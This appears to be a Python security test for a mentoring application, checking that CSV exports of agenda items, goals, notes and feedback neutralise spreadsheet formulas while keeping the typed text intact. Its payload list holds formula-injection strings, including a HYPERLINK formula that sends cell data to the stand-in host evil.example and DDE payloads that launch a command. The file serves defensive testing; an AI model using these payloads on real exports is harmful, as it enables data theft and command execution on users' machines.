"""Item 8: text people typed reaches CSV exports as data, never as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

from server.sessionlog import export
from server.spreadsheet import FORMULA_STARTS
from tests.conftest import ADMIN
from tests.security.conftest import Target

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
]


async def test_csv_export_neutralises_formula_cells(target: Target) -> None:
    members = [
        {"identity": "ada", "name": "=1+1", "role": "mentor"},
        {"identity": "bo", "name": "@bo", "role": "mentee"},
    ]
    pair = await target.ok(
        "POST", "/api/v1/pairs", ADMIN, {"members": members, "room": "room-csv", "title": "\t=x"}
    )
    pid = pair["id"]
    sid = await target.session(pair)
    ada = target.bearer(target.token(pair["room"], "ada", "mentor"))
    base = f"/api/v1/pairs/{pid}"
    for text in PAYLOADS:
        await target.ok("POST", f"{base}/agenda", ada, {"text": text})
        await target.ok("POST", f"{base}/goals", ada, {"title": text})
        await target.ok("POST", f"{base}/sessions/{sid}/notes", ada, {"text": text})
    await target.ok(
        "POST", f"{base}/sessions/{sid}/feedback", ada, {"rating": 4, "comment": "=2*3\ttab"}
    )

    for path, who in (
        (f"{base}/export?format=csv", ada),
        ("/api/v1/program/export?format=csv", ADMIN),
    ):
        status, text, headers = await target.call("GET", path, who)
        assert status == 200 and headers["Content-Type"].startswith("text/csv")
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        dangerous = [c for c in cells if c.startswith(FORMULA_STARTS)]
        assert dangerous == [], (path, dangerous)
        # Neutralised, not lost: the export parses back to exactly what was typed.
        tables = export.from_csv(text)
        assert [a["text"] for a in tables["agenda"]] == PAYLOADS
        assert [n["text"] for n in tables["notes"]] == PAYLOADS
        assert [g["title"] for g in tables["goals"]] == PAYLOADS
        assert sorted(m["name"] for m in tables["pair_members"]) == ["=1+1", "@bo"]
        assert tables["feedback"][0]["comment"] == "=2*3\ttab"
        assert tables["pairs"][0]["title"] == "\t=x"
